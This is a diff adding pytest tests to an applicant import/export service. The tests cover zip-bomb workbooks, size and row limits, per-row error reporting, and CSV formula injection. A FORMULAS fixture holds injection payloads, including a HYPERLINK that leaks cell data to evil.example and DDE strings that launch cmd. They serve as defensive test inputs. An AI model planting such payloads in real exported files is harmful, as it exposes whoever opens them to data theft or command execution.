@@ -6,11 +6,15 @@ from __future__ import annotations
 import csv
 import dataclasses
 import datetime as dt
+import tracemalloc
+import zipfile
 
 import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 from openpyxl import Workbook, load_workbook
 
-from desktop.errors import PermissionDenied, UserError
+from desktop.errors import PermissionDenied, UserError, ValidationError
 from desktop.models import Applicant, ChangeLog, Role
 from desktop.models.db import close_database, open_database
 from desktop.services import applicant_io, applicants, auth
@@ -25,9 +29,12 @@ from desktop.services.applicant_search import ApplicantSearch, Filters
 from desktop.services.identity import national_code_check_digit
 from desktop.services.progress import Cancelled, Progress
 from desktop.services.setup import initialise_center
+from desktop.services.spreadsheet import unquoted
 from desktop.strings import Applicants as ApplicantMessages
 from desktop.strings.applicant_io import HEADERS
 from desktop.strings.applicant_io import ApplicantIo as Messages
+from desktop.strings.spreadsheet import NAME_STARTS_LIKE_FORMULA
+from tests.factories import applicant_input
 
 CONTRACT = [
     "national_code",
@@ -166,7 +173,12 @@ def test_xlsx_cells_become_text(admin, tmp_path):
         ("blank.csv", b"\r\n,,\r\n\r\n", "empty", Messages.UNREADABLE_EMPTY),
         ("bom-only.csv", b"\xef\xbb\xbf", "empty", Messages.UNREADABLE_EMPTY),
         ("no-header.csv", b",,\n1,2,3\n", "no_header", Messages.UNREADABLE_NO_HEADER),
-        ("huge.csv", b'a,b\n"' + b"x" * 200_000 + b'",1\n', "corrupt", Messages.UNREADABLE_CORRUPT),
+        (
+            "huge.csv",
+            b'a,b\n"' + b"x" * 200_000 + b'",1\n',
+            "cell_too_long",
+            Messages.CELL_TOO_LONG.format(row="۲", limit="۱۰٬۰۰۰"),
+        ),
     ],
 )
 def test_unreadable_files(tmp_path, name, content, reason, message):
@@ -180,6 +192,129 @@ def test_unreadable_files(tmp_path, name, content, reason, message):
         reason,
         message,
     )
+
+
+# -- what a file may hold -----------------------------------------------------------------
+
+SHEET = "xl/worksheets/sheet1.xml"
+
+
+def xlsx_with_sheet(path, sheet_xml_chunks):
+    """A real workbook whose first sheet's XML is replaced by `sheet_xml_chunks`,
+    streamed into the zip (never held whole)."""
+    plain = path.with_suffix(".plain.xlsx")
+    book = Workbook()
+    book.active.append(CONTRACT)
+    book.save(plain)
+    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
+        for item in source.infolist():
+            if item.filename != SHEET:
+                out.writestr(item, source.read(item.filename))
+        with out.open(SHEET, "w", force_zip64=True) as sheet:
+            for chunk in sheet_xml_chunks:
+                sheet.write(chunk)
+    return path
+
+
+def sheet_xml(cells_xml):
+    yield b'<?xml version="1.0" encoding="UTF-8"?>'
+    yield b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+    yield b"<sheetData>"
+    yield from cells_xml
+    yield b"</sheetData></worksheet>"
+
+
+def peak_while(action):
+    """The peak of Python allocations while `action` runs, in bytes (and its result)."""
+    tracemalloc.start()
+    try:
+        try:
+            result = action()
+        except UnreadableFile as error:
+            result = error
+        return tracemalloc.get_traced_memory()[1], result
+    finally:
+        tracemalloc.stop()
+
+
+def test_a_zip_bomb_is_refused_before_it_is_unpacked(tmp_path):
+    """64 MB of spaces inside one cell pack into about 60 KB: refused on the zip's own
+    declarations, and reading never holds what it would unpack to."""
+    spaces = (b" " * 2**20 for _ in range(64))
+    cell = [b'<row r="1"><c r="A1" t="inlineStr"><is><t>', *spaces, b"</t></is></c></row>"]
+    path = xlsx_with_sheet(tmp_path / "bomb.xlsx", sheet_xml(cell))
+    assert path.stat().st_size < 2**20
+    peak, refused = peak_while(lambda: applicant_io.read_table(path))
+    assert isinstance(refused, UnreadableFile) and refused.reason == "too_big"
+    assert refused.message == Messages.TOO_BIG.format(csv_limit="۶۴", xlsx_limit="۱۲۸")
+    assert peak < 4 * 2**20
+
+
+def test_a_sheet_past_the_unpacked_size_is_refused(tmp_path, monkeypatch):
+    monkeypatch.setattr(applicant_io, "MAX_XLSX_UNCOMPRESSED", 2**20)
+    rows = (
+        f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>{n:09d}</t></is></c></row>'.encode()
+        for n in range(1, 30_000)
+    )
+    path = xlsx_with_sheet(tmp_path / "big.xlsx", sheet_xml(rows))
+    with pytest.raises(UnreadableFile) as refused:
+        applicant_io.read_table(path)
+    assert refused.value.reason == "too_big" and refused.value.detail == {"limit": 1}
+
+
+def test_too_many_rows_are_refused_and_reading_stops_there(tmp_path, monkeypatch):
+    monkeypatch.setattr(applicant_io, "MAX_ROWS", 1000)
+    rows = (
+        f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>row {n}</t></is></c></row>'.encode()
+        for n in range(1, 200_001)
+    )
+    path = xlsx_with_sheet(tmp_path / "tall.xlsx", sheet_xml(rows))
+    peak, refused = peak_while(lambda: applicant_io.read_table(path))
+    assert isinstance(refused, UnreadableFile) and refused.reason == "too_many_rows"
+    assert refused.message == Messages.TOO_MANY_ROWS.format(limit="۱٬۰۰۰")
+    assert peak < 8 * 2**20  # 1,001 rows read, not 200,000
+
+
+def test_the_row_cap_counts_data_rows_and_lets_empty_ones_after_them_through(tmp_path):
+    limit = applicant_io.MAX_ROWS
+    lines = ["a,b", *(f"{n},x" for n in range(limit))]
+    path = tmp_path / "full.csv"
+    path.write_text("\n".join([*lines, *([",,"] * 50)]) + "\n", encoding="utf-8")
+    assert len(applicant_io.read_table(path).rows) == limit  # the empty tail dropped
+    path.write_text("\n".join([*lines, "one,more"]) + "\n", encoding="utf-8")
+    with pytest.raises(UnreadableFile) as refused:
+        applicant_io.read_table(path)
+    assert refused.value.reason == "too_many_rows" and refused.value.detail == {"limit": limit}
+
+
+def test_too_many_columns_cells_too_long_and_files_too_big(tmp_path, monkeypatch):
+    limit = applicant_io.MAX_COLUMNS
+    wide = tmp_path / "wide.csv"
+    wide.write_text(
+        ",".join(["h"] * limit + [""] * 50) + "\n" + "1," * limit + "\n", encoding="utf-8"
+    )
+    assert len(applicant_io.read_table(wide).headers) == limit  # empty beyond: cut off
+    wide.write_text(",".join(["h"] * (limit + 1)) + "\n", encoding="utf-8")
+    with pytest.raises(UnreadableFile) as refused:
+        applicant_io.read_table(wide)
+    assert refused.value.reason == "too_many_columns"
+    assert refused.value.message == Messages.TOO_MANY_COLUMNS.format(limit="۲۰۰")
+
+    long = tmp_path / "long.csv"
+    cell = "ب" * (applicant_io.MAX_CELL_CHARS + 1)
+    long.write_text(f"a,b\n1,2\n3,{cell}\n", encoding="utf-8")
+    with pytest.raises(UnreadableFile) as refused:
+        applicant_io.read_table(long)
+    assert refused.value.detail == {"limit": applicant_io.MAX_CELL_CHARS, "row": 3}
+    long.write_text(f"a,b\n1,{cell[1:]}\n", encoding="utf-8")  # at the limit: read
+    assert applicant_io.read_table(long).rows == [["1", cell[1:]]]
+
+    monkeypatch.setattr(applicant_io, "MAX_CSV_BYTES", 1000)
+    big = tmp_path / "big.csv"
+    big.write_text("a,b\n" + "1,2\n" * 300, encoding="utf-8")
+    with pytest.raises(UnreadableFile) as refused:
+        applicant_io.read_table(big)
+    assert refused.value.reason == "too_big"
 
 
 def test_empty_xlsx_is_unreadable(tmp_path):
@@ -275,12 +410,37 @@ def test_each_rejection_reason(admin, field, value, message):
     assert results == [RowResult(2, "ok", "", ""), RowResult(3, "rejected", field, message)]
 
 
-def test_first_field_error_is_reported(admin):
-    results = check(admin, person(1, mobile="1", national_code="1", gender="?"))
-    assert (results[0].field, results[0].message) == (
-        "national_code",
-        ApplicantMessages.NATIONAL_CODE_FORMAT,
+def test_every_problem_of_a_row_is_reported(admin):
+    """A result per problem, all with the row's number; the rows around are untouched."""
+    results = check(
+        admin, person(1), person(2, mobile="1", national_code="1", gender="?"), person(3)
     )
+    assert [(r.row, r.status, r.field, r.message) for r in results] == [
+        (2, "ok", "", ""),
+        (3, "rejected", "national_code", ApplicantMessages.NATIONAL_CODE_FORMAT),
+        (3, "rejected", "gender", ApplicantMessages.GENDER_REQUIRED),
+        (3, "rejected", "mobile", ApplicantMessages.MOBILE_FORMAT),
+        (4, "ok", "", ""),
+    ]
+    table = table_of(person(1), person(2, mobile="1", gender="?"))
+    summary = applicant_io.import_rows(
+        admin, table, applicant_io.guess_mapping(CONTRACT), dry_run=True
+    )
+    assert (summary.rows, summary.accepted, summary.rejected) == (2, 1, 1)
+
+
+def test_a_duplicate_national_code_is_reported_beside_the_other_problems(admin):
+    import_people(admin, person(1))
+    results = check(admin, person(1, mobile="1"), person(2), person(2, district="99"))
+    assert [(r.row, r.field) for r in results] == [
+        (2, "mobile"),
+        (2, "national_code"),  # already registered here
+        (3, ""),
+        (4, "district"),
+        (4, "national_code"),  # the same as row 3's
+    ]
+    assert "TEH05-000001" in results[1].message
+    assert results[4].message == Messages.DUPLICATE_IN_FILE.format(line="۳")
 
 
 def test_duplicate_of_a_registered_applicant(admin):
@@ -407,8 +567,13 @@ def test_unknown_choice_in_optional_column(admin):
 def test_short_rows_read_missing_cells_as_empty(admin):
     table = table_of(person(1))
     table.rows[0] = table.rows[0][:5]
-    [result] = applicant_io.dry_run(admin, table, applicant_io.guess_mapping(table.headers))
-    assert (result.field, result.message) == ("birth_date", ApplicantMessages.REQUIRED)
+    results = applicant_io.dry_run(admin, table, applicant_io.guess_mapping(table.headers))
+    assert [(r.field, r.message) for r in results] == [
+        ("birth_date", ApplicantMessages.REQUIRED),
+        ("mobile", ApplicantMessages.MOBILE_FORMAT),
+        ("district", ApplicantMessages.REQUIRED),
+        ("categories", ApplicantMessages.CATEGORY_REQUIRED),
+    ]
 
 
 # -- importing -----------------------------------------------------------------------------
@@ -507,22 +672,29 @@ def test_roles(admin):
 
 
 def test_report_columns_and_row_numbers(admin, tmp_path):
-    path = write_csv(tmp_path / "in.csv", [person(1), person(2, mobile="۱۲"), person(1)])
+    three_problems = person(3, mobile="1", gender="?", district="99")
+    people = [person(1), person(2, mobile="۱۲"), person(1), three_problems]
+    path = write_csv(tmp_path / "in.csv", people)
     table = applicant_io.read_table(path)
     summary = applicant_io.import_rows(admin, table, applicant_io.guess_mapping(table.headers))
+    assert (summary.rows, summary.accepted, summary.rejected, summary.created) == (4, 1, 3, 1)
     applicant_io.write_report(summary.results, tmp_path / "report.csv")
     data = (tmp_path / "report.csv").read_bytes()
     assert data.startswith(b"row,status,field,message\n")  # no BOM, header first
     lines = data.decode("utf-8").splitlines()
+    district = ApplicantMessages.DISTRICT_UNKNOWN.format(first="۱", last="۱۰")
     assert lines == [
         "row,status,field,message",
         "2,ok,,",
         f"3,rejected,mobile,{ApplicantMessages.MOBILE_FORMAT}",
         f"4,rejected,national_code,{Messages.DUPLICATE_IN_FILE.format(line='۲')}",
+        f"5,rejected,gender,{ApplicantMessages.GENDER_REQUIRED}",
+        f"5,rejected,mobile,{ApplicantMessages.MOBILE_FORMAT}",
+        f"5,rejected,district,{district}",
     ]
     with open(tmp_path / "report.csv", encoding="utf-8", newline="") as report:
         rows = list(csv.DictReader(report))
-    assert [row["row"] for row in rows] == ["2", "3", "4"]
+    assert [row["row"] for row in rows] == ["2", "3", "4", "5", "5", "5"]
 
 
 # -- export ----------------------------------------------------------------------------------
@@ -581,7 +753,85 @@ def test_export_csv_has_bom_and_contract_header(admin, tmp_path):
         [row] = list(csv.DictReader(exported))
     assert list(row) == list(EXPORT_FIELDS)
     assert row["file_number"] == "TEH05-000001" and row["status"] == "registered"
-    assert {name: row[name] for name in FULL} == FULL
+    assert row["notes"] == "'" + FULL["notes"]  # a formula, quoted (see below)
+    assert {name: row[name] for name in FULL if name != "notes"} == {
+        name: value for name, value in FULL.items() if name != "notes"
+    }
+
+
+# -- formulas never run (CSV injection) -------------------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1, "click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "+98 912",
+    "=1+1",
+]
+
+
+@settings(
+    suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None, max_examples=40
+)
+@given(
+    text=st.text(
+        alphabet=st.one_of(st.sampled_from("=+-@\t\r\n '\"|,;"), st.characters()), max_size=12
+    )
+)
+def test_no_exported_csv_cell_starts_like_a_formula(admin, tmp_path_factory, text):
+    code = national_code(300_000_000 + len(Applicant.select()))
+    import_people(admin, person(1, national_code=code, notes=text, address=text))
+    out = tmp_path_factory.mktemp("export") / "out.csv"
+    applicant_io.export(admin, ApplicantSearch(admin, code), out)
+    with open(out, encoding="utf-8-sig", newline="") as exported:
+        [row] = list(csv.DictReader(exported))
+    stored_notes = stored(code).notes
+    for name in EXPORT_FIELDS:
+        cell = row[name]
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
+    assert unquoted(row["notes"]) == stored_notes  # only quoted, never changed
+
+
+def test_formulas_are_quoted_in_csv_text_in_xlsx_and_read_back(admin, tmp_path):
+    people = [person(n, notes=text, address=text) for n, text in enumerate(FORMULAS, start=1)]
+    import_people(admin, *people)
+    csv_out, xlsx_out = tmp_path / "out.csv", tmp_path / "out.xlsx"
+    applicant_io.export(admin, ApplicantSearch(admin), csv_out)
+    applicant_io.export(admin, ApplicantSearch(admin), xlsx_out)
+    with open(csv_out, encoding="utf-8-sig", newline="") as exported:
+        rows = list(csv.DictReader(exported))
+    assert sorted(row["notes"] for row in rows) == sorted("'" + text for text in FORMULAS)
+    sheet = load_workbook(xlsx_out).active
+    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    notes = EXPORT_FIELDS.index("notes")
+    assert sorted(row[notes].value for row in sheet.iter_rows(min_row=2)) == sorted(FORMULAS)
+    # Both files read back into another center as they were written.
+    for out in (csv_out, xlsx_out):
+        other = fresh_center()
+        assert import_everything(other, out).created == len(FORMULAS)
+        assert sorted(a.notes for a in Applicant.select()) == sorted(FORMULAS)
+
+
+def test_the_report_quotes_formulas_too(tmp_path):
+    out = tmp_path / "report.csv"
+    applicant_io.write_report([RowResult(2, "rejected", "notes", "=1+1")], out)
+    assert out.read_text(encoding="utf-8") == "row,status,field,message\n2,rejected,notes,'=1+1\n"
+
+
+@pytest.mark.parametrize("name", ["first_name", "last_name", "father_name"])
+@pytest.mark.parametrize("value", ['=HYPERLINK("x")', "+علی", "-رضا", "@زهرا", "\t=علی", " =علی"])
+def test_a_name_that_starts_like_a_formula_is_refused(admin, name, value):
+    with pytest.raises(ValidationError) as refused:
+        applicants.validate(applicant_input(**{name: value}))
+    assert refused.value.errors == {name: NAME_STARTS_LIKE_FORMULA}
+    [result] = check(admin, person(1, **{name: value}))
+    assert (result.status, result.field, result.message) == (
+        "rejected",
+        name,
+        NAME_STARTS_LIKE_FORMULA,
+    )
+    applicants.validate(applicant_input(**{name: "علی-رضا"}))  # inside a name, a dash is fine
 
 
 def import_everything(admin, path):
